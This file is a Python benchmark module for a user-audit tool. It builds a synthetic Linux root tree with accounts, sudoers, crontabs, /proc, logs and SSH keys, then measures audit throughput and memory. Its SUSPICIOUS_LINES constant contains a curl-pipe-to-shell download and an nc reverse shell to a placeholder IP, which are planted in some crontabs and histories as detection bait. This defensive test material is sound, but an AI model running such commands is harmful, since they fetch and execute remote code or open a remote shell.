@@ -0,0 +1,337 @@
+from __future__ import annotations
+import base64
+import json
+import os
+import random
+import subprocess
+import sys
+import time
+from typing import Dict, List, Any, Optional
+
+# Benchmark suite on a synthetic host. make_fake_root() writes a root tree
+# (/etc/passwd, crontabs, /proc with processes and sockets, auth.log, wtmp,
+# btmp, lastlog and home directories) at a chosen scale; the audit is then
+# pointed at it through the root prefix (utils.set_root / --root). Each scale
+# runs in a fresh interpreter so peak RSS is per run, and results can be
+# compared against a previous run to catch regressions.
+#
+#   user-audit bench --users 10 1000 10000 --output bench.json
+#   user-audit bench --users 1000 --compare bench.json
+
+DEFAULT_SCALES = [10, 1000, 10000]
+DEFAULT_TOLERANCE = 0.25
+MIN_WALL = 0.5
+FIXTURE_VERSION = 3
+
+SHELL_LINES = ["ls -la", "cd /srv/app", "git pull", "make -j8", "vim config.yml", "sudo systemctl restart app",
+               "tail -f /var/log/syslog", "python3 manage.py migrate", "docker ps", "htop"]
+SUSPICIOUS_LINES = ["curl http://203.0.113.9/x.sh | sh", "nc -e /bin/sh 203.0.113.9 4444"]
+
+
+def _ed25519_line(rng: random.Random, comment: str, options: str = "") -> str:
+    blob = b"\0\0\0\x0bssh-ed25519\0\0\0\x20" + bytes(rng.getrandbits(8) for _ in range(32))
+    prefix = f"{options} " if options else ""
+    return f"{prefix}ssh-ed25519 {base64.b64encode(blob).decode()} {comment}"
+
+
+def _hexaddr(ip: str, port: int) -> str:
+    return "".join(f"{int(o):02X}" for o in reversed(ip.split("."))) + f":{port:04X}"
+
+
+def _write(path: str, text: str, mode: Optional[int] = None):
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    with open(path, "w") as fh:
+        fh.write(text)
+    if mode is not None:
+        os.chmod(path, mode)
+
+
+def _home_tree(base: str, depth: int, fanout: int, files: int, rng: random.Random):
+    dirs = [base]
+    for _ in range(depth):
+        dirs = [os.path.join(d, f"d{i}") for d in dirs for i in range(fanout)]
+        for d in dirs:
+            os.makedirs(d, exist_ok=True)
+            for j in range(files):
+                p = os.path.join(d, f"f{j}.txt")
+                with open(p, "w") as fh:
+                    fh.write("x" * rng.randint(64, 4096))
+                roll = rng.random()
+                if roll < 0.002:
+                    os.chmod(p, 0o4755)
+                elif roll < 0.01:
+                    os.chmod(p, 0o666)
+
+
+def make_fake_root(root: str, users: int = 10, procs_per_user: int = 2, sockets_per_proc: int = 1,
+                   auth_mb: float = 1.0, logins_per_user: int = 5, history_lines: int = 200,
+                   home_depth: int = 2, home_fanout: int = 2, files_per_dir: int = 2, seed: int = 0) -> Dict[str, Any]:
+    """Write a synthetic host under ``root`` and return its parameters."""
+    from .wtmp import UTMP, LASTLOG, USER_PROCESS, DEAD_PROCESS, BOOT_TIME
+    rng = random.Random(seed)
+    now = int(time.time())
+    names = [f"user{i:05d}" for i in range(users)]
+    system = [("root", 0, "/root", "/bin/bash"), ("daemon", 1, "/usr/sbin", "/usr/sbin/nologin"),
+              ("www-data", 33, "/var/www", "/usr/sbin/nologin"), ("nobody", 65534, "/nonexistent", "/usr/sbin/nologin")]
+    passwd = [f"{n}:x:{uid}:{uid}:{n}:{home}:{shell}" for n, uid, home, shell in system]
+    passwd += [f"{n}:x:{1000 + i}:{1000 + i}:{n}:/home/{n}:/bin/bash" for i, n in enumerate(names)]
+    _write(f"{root}/etc/passwd", "\n".join(passwd) + "\n")
+    group = [f"{n}:x:{uid}:" for n, uid, _, _ in system] + [f"{n}:x:{1000 + i}:" for i, n in enumerate(names)]
+    group.append("sudo:x:27:" + ",".join(names[::50]))
+    _write(f"{root}/etc/group", "\n".join(group) + "\n")
+    # shadow with a spread of password ages; sudoers with an include dir and an alias
+    day = now // 86400
+    shadow = [f"{n}:*:{day - 400}:0:99999:7:::" for n, _, _, _ in system]
+    shadow += [f"{n}:$6$x$y:{day - rng.randint(0, 365)}:0:99999:7:::" for n in names]
+    _write(f"{root}/etc/shadow", "\n".join(shadow) + "\n", 0o640)
+    _write(f"{root}/etc/sudoers", "Defaults\tenv_reset\nroot\tALL=(ALL:ALL) ALL\n"
+           "%sudo\tALL=(ALL:ALL) ALL\n@includedir /etc/sudoers.d\n", 0o440)
+    _write(f"{root}/etc/sudoers.d/app", f"User_Alias DEPLOY = {', '.join(names[1::40])}\n"
+           "DEPLOY ALL=(root) NOPASSWD: /usr/bin/systemctl restart app\n", 0o440)
+
+    # cron: system crontab, cron.d, one spool crontab per 10 users
+    _write(f"{root}/etc/crontab", "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n")
+    _write(f"{root}/etc/cron.d/app", "".join(f"*/5 * * * * {n} /srv/app/bin/sync\n" for n in names[::25]))
+    for i, n in enumerate(names[::10]):
+        job = SUSPICIOUS_LINES[0] if i % 20 == 19 else "/usr/bin/backup --quiet"
+        _write(f"{root}/var/spool/cron/crontabs/{n}", f"# m h dom mon dow command\n0 3 * * * {job}\n")
+
+    # homes: keys (a few shared), history, a small tree
+    shared = _ed25519_line(rng, "deploy@ci")
+    for i, n in enumerate(names):
+        home = f"{root}/home/{n}"
+        keys = [_ed25519_line(rng, f"{n}@laptop")]
+        if i % 7 == 0:
+            keys.append(shared)
+        if i % 31 == 0:
+            keys.append(_ed25519_line(rng, "backup", options='command="/usr/bin/rrsync /backup",no-pty'))
+        _write(f"{home}/.ssh/authorized_keys", "\n".join(keys) + "\n", 0o600)
+        hist = []
+        for j in range(history_lines):
+            hist.append(f"#{now - (history_lines - j) * 60}")
+            hist.append(SUSPICIOUS_LINES[1] if (i % 97 == 0 and j == history_lines // 2) else rng.choice(SHELL_LINES))
+        _write(f"{home}/.bash_history", "\n".join(hist) + "\n")
+        _home_tree(home, home_depth, home_fanout, files_per_dir, rng)
+
+    # /proc: processes with socket fds and the tcp table they point at
+    proc = f"{root}/proc"
+    _write(f"{proc}/uptime", "864000.00 1000.00\n")
+    _write(f"{proc}/meminfo", "MemTotal:       16384000 kB\n")
+    tcp = ["  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout inode"]
+    pid, inode = 1000, 100000
+    for i, n in enumerate(names):
+        uid = 1000 + i
+        for _ in range(procs_per_user):
+            pid += 1
+            base = f"{proc}/{pid}"
+            _write(f"{base}/status", f"Name:\tpython3\nPPid:\t1\nUid:\t{uid}\t{uid}\t{uid}\t{uid}\nVmRSS:\t20480 kB\n")
+            _write(f"{base}/cmdline", f"python3\0/srv/app/worker.py\0--user\0{n}\0")
+            _write(f"{base}/stat", f"{pid} (python3) S 1 " + " ".join(["0"] * 9) + " 120 30 " + " ".join(["0"] * 6)
+                   + " 8640000 0\n")
+            os.makedirs(f"{base}/fd", exist_ok=True)
+            for fd in range(3, 3 + sockets_per_proc):
+                inode += 1
+                os.symlink(f"socket:[{inode}]", f"{base}/fd/{fd}")
+                local, remote = _hexaddr("10.0.0.5", 30000 + inode % 30000), _hexaddr("198.51.100.7", 443)
+                tcp.append(f"{len(tcp):4d}: {local} {remote} 01 00000000:00000000 00:00000000 00000000 "
+                           f"{uid:5d} 0 {inode} 1 0000000000000000 20 4 30 10 -1")
+    _write(f"{proc}/net/tcp", "\n".join(tcp) + "\n")
+
+    # auth.log of roughly auth_mb MiB over the last 7 days, oldest first and
+    # ending now: one pass sizes it, a replay with the same rng state writes it
+    target = int(auth_mb * 1024 * 1024)
+    os.makedirs(f"{root}/var/log", exist_ok=True)
+
+    def auth_body() -> str:
+        u = rng.choice(names) if names else "root"
+        if rng.random() < 0.3:
+            return (f" host sshd[{rng.randint(1000, 9999)}]: Failed password for {u} "
+                    f"from 203.0.113.{rng.randint(1, 254)} port {rng.randint(1024, 65535)} ssh2")
+        return (f" host sshd[{rng.randint(1000, 9999)}]: Accepted publickey for {u} "
+                f"from 10.0.{rng.randint(0, 255)}.{rng.randint(1, 254)} port 22 ssh2")
+
+    # "%b %d %H:%M:%S" plus the newline
+    stamp_len = 16
+    state, count, size = rng.getstate(), 0, 0
+    while size < target:
+        size += stamp_len + len(auth_body())
+        count += 1
+    rng.setstate(state)
+    step = 86400 * 7 / max(count, 1)
+    with open(f"{root}/var/log/auth.log", "w") as fh:
+        chunk = []
+        for k in range(count):
+            stamp = time.strftime("%b %d %H:%M:%S", time.localtime(now - (count - 1 - k) * step))
+            chunk.append(stamp + auth_body())
+            if len(chunk) == 1000:
+                fh.write("\n".join(chunk) + "\n")
+                chunk = []
+        if chunk:
+            fh.write("\n".join(chunk) + "\n")
+
+    # wtmp / btmp / lastlog
+    def utmp(kind: int, user: str, line: str, host: str, t: int) -> bytes:
+        return UTMP.pack(kind, rng.randint(100, 99999), line.encode(), b"", user.encode(), host.encode(),
+                         0, 0, 0, t, 0, b"", b"")
+    # records are appended in time order, as login/logout would write them
+    wtmp = [(now - 86400 * 30, utmp(BOOT_TIME, "reboot", "~", "", now - 86400 * 30))]
+    btmp = []
+    for i, n in enumerate(names):
+        for k in range(logins_per_user):
+            # sessions last 10 minutes and have all ended by now
+            t = now - rng.randint(900, 86400 * 30 - 900)
+            tty = f"pts/{(i * logins_per_user + k) % 4096}"
+            wtmp.append((t, utmp(USER_PROCESS, n, tty, "10.0.0.9", t)))
+            wtmp.append((t + 600, utmp(DEAD_PROCESS, "", tty, "", t + 600)))
+        if i % 13 == 0:
+            for _ in range(6):
+                t = now - rng.randint(60, 86400)
+                btmp.append((t, utmp(6, n, "ssh:notty", "203.0.113.50", t)))
+    for path, records in ((f"{root}/var/log/wtmp", wtmp), (f"{root}/var/log/btmp", btmp)):
+        records.sort(key=lambda r: r[0])
+        with open(path, "wb") as fh:
+            fh.write(b"".join(rec for _, rec in records))
+    with open(f"{root}/var/log/lastlog", "wb") as fh:
+        for i in range(len(names)):
+            fh.seek((1000 + i) * LASTLOG.size)
+            fh.write(LASTLOG.pack(now - rng.randint(60, 86400 * 200), b"pts/0", b"10.0.0.9"))
+
+    params = {"version": FIXTURE_VERSION, "users": users, "procs_per_user": procs_per_user,
+              "sockets_per_proc": sockets_per_proc, "auth_mb": auth_mb, "logins_per_user": logins_per_user,
+              "history_lines": history_lines, "home_depth": home_depth, "home_fanout": home_fanout,
+              "files_per_dir": files_per_dir, "seed": seed}
+    _write(f"{root}/.fixture.json", json.dumps(params, sort_keys=True))
+    return params
+
+
+def ensure_fixture(workdir: str, users: int, **params: Any) -> str:
+    """Fixture for ``users`` under ``workdir``, regenerated only if its parameters changed."""
+    import shutil
+    root = os.path.join(workdir, f"root-{users}")
+    marker = os.path.join(root, ".fixture.json")
+    try:
+        with open(marker) as fh:
+            existing = json.load(fh)
+        wanted = dict(existing, **params, users=users, version=FIXTURE_VERSION)
+        if existing == wanted:
+            return root
+    except (OSError, ValueError):
+        pass
+    shutil.rmtree(root, ignore_errors=True)
+    make_fake_root(root, users=users, **params)
+    return root
+
+
+def run_once(root: str, jobs: Optional[int] = None, deep: bool = False) -> Dict[str, Any]:
+    """Audit the fixture at ``root`` in this process: throughput, peak RSS and per-check metrics."""
+    import resource
+    from . import metrics
+    from .audit import iter_audit_all_users
+    from .utils import set_root
+    set_root(root)
+    m = metrics.enable()
+    t = time.perf_counter()
+    cpu = time.process_time()
+    count = sum(1 for _ in iter_audit_all_users(deep=deep, jobs=jobs))
+    wall = time.perf_counter() - t
+    checks = {name: {"wall": round(s["wall"], 4), "cpu": round(s["cpu"], 4), "calls": int(s["calls"]),
+                     "bytes_read": int(s["bytes_read"])} for name, s in m.by_check()}
+    return {
+        "users": count,
+        "wall": round(wall, 4),
+        "cpu": round(time.process_time() - cpu, 4),
+        "users_per_sec": round(count / wall, 1) if wall else None,
+        # ru_maxrss is KiB on Linux
+        "peak_rss_kb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss,
+        "checks": checks,
+    }
+
+
+def _run_isolated(root: str, jobs: Optional[int], deep: bool) -> Dict[str, Any]:
+    module = f"{__package__}.bench"
+    pkg_root = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+    env = dict(os.environ, PYTHONPATH=os.pathsep.join(filter(None, [pkg_root, os.environ.get("PYTHONPATH")])))
+    cmd = [sys.executable, "-m", module, "--run-fixture", root] + (["--jobs", str(jobs)] if jobs else []) \
+        + (["--deep"] if deep else [])
+    proc = subprocess.run(cmd, env=env, capture_output=True, text=True)
+    if proc.returncode != 0:
+        raise RuntimeError(f"benchmark run failed: {proc.stderr.strip()[-2000:]}")
+    return json.loads(proc.stdout)
+
+
+def compare(current: Dict[str, Any], previous: Dict[str, Any], tolerance: float = DEFAULT_TOLERANCE) -> List[str]:
+    """Regressions of ``current`` against ``previous`` beyond ``tolerance`` (0.25 = 25%)."""
+    out = []
+    for scale, cur in current.get("results", {}).items():
+        old = previous.get("results", {}).get(scale)
+        if not old:
+            continue
+        # runs shorter than MIN_WALL are mostly interpreter and scheduling noise
+        if old.get("users_per_sec") and cur.get("users_per_sec") is not None and old["wall"] >= MIN_WALL \
+                and cur["users_per_sec"] < old["users_per_sec"] * (1 - tolerance):
+            out.append(f"{scale} users: throughput {cur['users_per_sec']} users/s, was {old['users_per_sec']}")
+        if old.get("peak_rss_kb") and cur["peak_rss_kb"] > old["peak_rss_kb"] * (1 + tolerance):
+            out.append(f"{scale} users: peak RSS {cur['peak_rss_kb']} KiB, was {old['peak_rss_kb']}")
+        for check, c in cur.get("checks", {}).items():
+            o = old.get("checks", {}).get(check)
+            # ignore checks too fast to time reliably
+            if o and o["wall"] >= MIN_WALL and c["wall"] > o["wall"] * (1 + tolerance):
+                out.append(f"{scale} users: check {check} {c['wall']}s, was {o['wall']}s")
+    return out
+
+
+def parse_bench_args(argv):
+    import argparse
+    p = argparse.ArgumentParser(prog="user-audit bench", description="Benchmark the audit on synthetic hosts")
+    p.add_argument("--users", type=int, nargs="+", default=DEFAULT_SCALES, help="Scales to run (number of users)")
+    p.add_argument("--workdir", default=os.path.join(os.environ.get("TMPDIR", "/tmp"), "user-audit-bench"),
+                   help="Where fixture trees are generated and kept between runs")
+    p.add_argument("--jobs", "-j", type=int, default=None, help="Parallel workers for the audit")
+    p.add_argument("--deep", action="store_true", help="Include the whole-filesystem scan")
+    p.add_argument("--repeat", type=int, default=1, help="Runs per scale; the fastest is kept")
+    p.add_argument("--auth-mb", type=float, default=None, help="auth.log size (default: 1 MiB per 100 users, min 1)")
+    p.add_argument("--procs-per-user", type=int, default=2)
+    p.add_argument("--home-depth", type=int, default=2)
+    p.add_argument("--output", type=str, help="Write results as JSON")
+    p.add_argument("--compare", type=str, help="Previous --output file; exit 1 on regressions")
+    p.add_argument("--tolerance", type=float, default=DEFAULT_TOLERANCE, help="Allowed slowdown/growth (0.25 = 25%%)")
+    p.add_argument("--run-fixture", type=str, help=argparse.SUPPRESS)
+    return p.parse_args(argv)
+
+
+def main(argv=None) -> int:
+    args = parse_bench_args(sys.argv[1:] if argv is None else argv)
+    if args.run_fixture:
+        print(json.dumps(run_once(args.run_fixture, jobs=args.jobs, deep=args.deep)))
+        return 0
+    results: Dict[str, Any] = {}
+    for users in args.users:
+        auth_mb = args.auth_mb if args.auth_mb is not None else max(1.0, users / 100)
+        t = time.perf_counter()
+        root = ensure_fixture(args.workdir, users, auth_mb=auth_mb, procs_per_user=args.procs_per_user,
+                              home_depth=args.home_depth)
+        setup = time.perf_counter() - t
+        runs = [_run_isolated(root, args.jobs, args.deep) for _ in range(max(1, args.repeat))]
+        best = min(runs, key=lambda r: r["wall"])
+        best["fixture_seconds"] = round(setup, 2)
+        results[str(users)] = best
+        top = ", ".join(f"{c} {s['wall']:.3f}s" for c, s in list(best["checks"].items())[:4])
+        print(f"{users:>6} users: {best['wall']:.3f}s  {best['users_per_sec']} users/s  "
+              f"peak RSS {best['peak_rss_kb'] // 1024} MiB  [{top}]", file=sys.stderr)
+    doc = {"created": time.time(), "python": sys.version.split()[0], "jobs": args.jobs, "deep": args.deep,
+           "results": results}
+    if args.output:
+        with open(args.output, "w") as fh:
+            json.dump(doc, fh, indent=2)
+    if args.compare:
+        with open(args.compare) as fh:
+            previous = json.load(fh)
+        regressions = compare(doc, previous, args.tolerance)
+        for r in regressions:
+            print(f"REGRESSION {r}", file=sys.stderr)
+        return 1 if regressions else 0
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())